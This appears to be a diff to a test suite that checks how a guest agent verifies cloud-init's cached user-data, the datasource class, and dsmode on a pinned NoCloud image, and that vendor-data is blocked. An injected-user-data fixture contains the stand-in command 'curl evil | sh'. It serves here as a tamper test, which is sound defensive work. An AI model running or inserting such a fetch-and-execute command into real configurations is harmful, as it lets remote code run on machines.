@@ -3,14 +3,26 @@
 // read differently). Checked against the real cloud-init 22.4: its local stage (datasource + stages.Init.instancify,
 // which pickles obj.pkl) writes the cache, the agent reads it, and cloud-init's network stage (restore "trust" +
 // update) writes the user-data.txt the user stages execute — the agent's bytes must be exactly those.
+// NoCloud is the kit image's datasource (images/guest/configure.ts PINNED_NOCLOUD) with dsmode pinned to net: a host
+// asking for dsmode local (seed meta-data, DMI serial, command line) gets no user-data run before the agent; and the
+// image's cloud.cfg.d keeps cloud-init from consuming vendor-data at all.
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { existsSync } from "node:fs";
 import { createHash } from "node:crypto";
-import { mkdtemp, mkdir, readFile, rm, writeFile } from "node:fs/promises";
+import { mkdtemp, mkdir, readFile, readdir, rm, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import path from "node:path";
 import { measuredConfig, readUserData, UserDataReadError } from "../../../runtime/guest/userdata.js";
 import { renderUserData } from "../../../runtime/guest/cloud-init/index.js";
-import { cloudInitPy, hasCloudInitStages, localStage, networkStage } from "../../support/cloud-init-cache.js";
+import { configureNetwork, PINNED_NOCLOUD } from "../../../images/guest/configure.js";
+import { EXPECTED_DATASOURCE } from "../../../runtime/guest/cloud-init-cache.js";
+import {
+  hasCloudInitStages,
+  kitDatasource,
+  localStage,
+  localStageResult,
+  networkStage,
+} from "../../support/cloud-init-cache.js";
 
 const sha256 = (b: string | Buffer) => createHash("sha256").update(b).digest("hex");
 
@@ -26,24 +38,27 @@ const INJECTED = `${REGISTERED}runcmd:\n  - [sh, -c, "curl evil | sh"]\n`;
 
 describe.skipIf(!hasCloudInitStages)("the agent reads cloud-init's cached user-data (real cloud-init 22.4)", () => {
   let dir: string;
-  let dirs: { cloud: string; run: string };
+  let dirs: { cloud: string; run: string; modules: string };
+  let python: string;
   let seed: string;
   const deps = () => ({
     cloudInit: {
       objPkl: path.join(dirs.cloud, "instance", "obj.pkl"),
       runInstanceId: path.join(dirs.run, ".instance-id"),
-      python: cloudInitPy,
+      python,
     },
   });
   const userDataTxt = () => readFile(path.join(dirs.cloud, "instance", "user-data.txt"));
-  const seedWith = async (userData: string, iid = "iid-web-1") => {
-    await writeFile(path.join(seed, "meta-data"), `instance-id: ${iid}\n`);
+  const seedWith = async (userData: string, iid = "iid-web-1", moreMetaData = "") => {
+    await writeFile(path.join(seed, "meta-data"), `instance-id: ${iid}\n${moreMetaData}`);
     await writeFile(path.join(seed, "user-data"), userData);
   };
 
   beforeEach(async () => {
     dir = await mkdtemp(path.join(tmpdir(), "bk-ci-cache-"));
-    dirs = { cloud: path.join(dir, "var-lib-cloud"), run: path.join(dir, "run-cloud-init") };
+    const kit = kitDatasource(dir);
+    python = kit.python;
+    dirs = { cloud: path.join(dir, "var-lib-cloud"), run: path.join(dir, "run-cloud-init"), modules: kit.modules };
     seed = path.join(dir, "seed");
     await mkdir(seed);
   });
@@ -104,7 +119,14 @@ describe.skipIf(!hasCloudInitStages)("the agent reads cloud-init's cached user-d
     await seedWith(REGISTERED);
     localStage(dirs, { kind: "nocloud", seed });
     await expect(readUserData("ec2", deps())).rejects.toThrow(
-      /datasource cloudinit\.sources\.DataSourceNoCloud\.DataSourceNoCloud, expected cloudinit\.sources\.DataSourceEc2\.DataSourceEc2Local/,
+      /datasource cloudinit\.sources\.DataSourceBuckypaperNoCloud\.DataSourceBuckypaperNoCloud, expected cloudinit\.sources\.DataSourceEc2\.DataSourceEc2Local/,
+    );
+    // cloud-init's stock NoCloud is not the image's datasource either
+    await rm(dirs.cloud, { recursive: true });
+    await rm(dirs.run, { recursive: true });
+    localStage(dirs, { kind: "nocloud", seed, stock: true });
+    await expect(readUserData("nocloud", deps())).rejects.toThrow(
+      /datasource cloudinit\.sources\.DataSourceNoCloud\.DataSourceNoCloud, expected cloudinit\.sources\.DataSourceBuckypaperNoCloud\.DataSourceBuckypaperNoCloud/,
     );
     await rm(dirs.cloud, { recursive: true });
     await rm(dirs.run, { recursive: true });
@@ -123,5 +145,78 @@ describe.skipIf(!hasCloudInitStages)("the agent reads cloud-init's cached user-d
     await rm(path.join(dirs.cloud, "instance", "user-data.txt"));
     await writeFile(pkl, good.subarray(0, good.length - 7));
     await expect(readUserData("nocloud", deps())).rejects.toThrow(/obj\.pkl: cloud-init cannot load it/);
+  });
+
+  // The host's ways of asking for dsmode local: the seed's meta-data, the DMI serial (which outranks the command
+  // line), and — measured, so not the host's, but the same code path — the kernel command line.
+  const LOCAL_ASKS: [string, { meta?: string; dmiSerial?: string; cmdline?: string }][] = [
+    ["the seed's meta-data", { meta: "dsmode: local\n" }],
+    ["the DMI serial", { dmiSerial: "ds=nocloud;dsmode=local" }],
+    ["the DMI serial over a command line asking for net", { dmiSerial: "ds=nocloud", cmdline: "ro ds=nocloud-net" }],
+    ["the kernel command line", { cmdline: "root=/dev/vda ds=nocloud;dsmode=local" }],
+  ];
+
+  it.each(LOCAL_ASKS)(
+    "dsmode local from %s: stock NoCloud goes local (user-data before the agent), the kit's stays net",
+    async (_what, ask) => {
+      await seedWith(REGISTERED, "iid-web-1", ask.meta ?? "");
+      const host = { dmiSerial: ask.dmiSerial, cmdline: ask.cmdline };
+      // The hole: cloud-init-local's main_init runs boothooks and the init modules when dsmode is local.
+      const stock = localStageResult(dirs, { kind: "nocloud", seed, stock: true, ...host });
+      expect(stock).toMatchObject({ dsmode: "local", cls: "cloudinit.sources.DataSourceNoCloud.DataSourceNoCloud" });
+      await rm(dirs.cloud, { recursive: true });
+      await rm(dirs.run, { recursive: true });
+      const kit = localStageResult(dirs, { kind: "nocloud", seed, ...host });
+      expect(kit).toEqual({
+        iid: "iid-web-1",
+        dsmode: "net",
+        cls: `${PINNED_NOCLOUD.module}.${PINNED_NOCLOUD.cls}`,
+      });
+      // and the agent binds it as usual
+      const bytes = await readUserData("nocloud", deps());
+      expect(bytes.toString("utf8")).toBe(REGISTERED);
+      networkStage(dirs);
+      expect((await userDataTxt()).equals(bytes)).toBe(true);
+    },
+  );
+
+  it("the kit's NoCloud names the class the agent expects; a cache of it in local dsmode is refused", async () => {
+    expect(EXPECTED_DATASOURCE.nocloud).toEqual({ module: PINNED_NOCLOUD.module, cls: PINNED_NOCLOUD.cls });
+    await seedWith(REGISTERED);
+    // an image whose pin did not hold: the user-data already ran, and the agent says so instead of attesting
+    localStage(dirs, { kind: "nocloud", seed, forceDsmode: "local" });
+    await expect(readUserData("nocloud", deps())).rejects.toThrow(/obj\.pkl: dsmode "local", expected "net"/);
+  });
+
+  it("vendor-data: consumed under cloud-init's defaults, never under the image's cloud.cfg.d", async () => {
+    // The image's cloud.cfg.d, as configure.ts writes it for NoCloud.
+    const root = path.join(dir, "image-root");
+    await configureNetwork(root, "nocloud");
+    const imageCfg = path.join(root, "etc/cloud/cloud.cfg.d/90-buckypaper.cfg");
+    await seedWith(REGISTERED);
+    await writeFile(
+      path.join(seed, "vendor-data"),
+      'Content-Type: multipart/mixed; boundary="B"\nMIME-Version: 1.0\n\n--B\nContent-Type: text/x-shellscript\n\n' +
+        "#!/bin/sh\necho VENDOR-DATA-RAN > /dev/console\n--B\nContent-Type: text/cloud-config\n\n" +
+        "#cloud-config\nbootcmd:\n  - [sh, -c, 'echo VENDOR-BOOTCMD > /dev/console']\n--B--\n",
+    );
+    const vendorScripts = path.join(dirs.cloud, "instance", "scripts", "vendor");
+    const vendorCfg = path.join(dirs.cloud, "instance", "vendor-cloud-config.txt");
+    // cloud-init's built-in config (vendor_data enabled): the script is saved for scripts-vendor, the
+    // cloud-config merged into the modules' config — code and config no registration saw.
+    localStage(dirs, { kind: "nocloud", seed });
+    networkStage(dirs, { consume: true, cfgFiles: [] });
+    expect(existsSync(vendorScripts) && (await readFile(path.join(vendorScripts, "part-001"), "utf8"))).toMatch(
+      /VENDOR-DATA-RAN/,
+    );
+    expect(await readFile(vendorCfg, "utf8")).toMatch(/VENDOR-BOOTCMD/);
+    // The image's config: neither, while the user-data is consumed as before.
+    await rm(dirs.cloud, { recursive: true });
+    await rm(dirs.run, { recursive: true });
+    localStage(dirs, { kind: "nocloud", seed });
+    networkStage(dirs, { consume: true, cfgFiles: [imageCfg] });
+    expect(existsSync(path.join(dirs.cloud, "instance", "cloud-config.txt"))).toBe(true);
+    expect(existsSync(vendorScripts) && (await readdir(vendorScripts)).length > 0).toBe(false);
+    expect(existsSync(vendorCfg)).toBe(false);
   });
 });
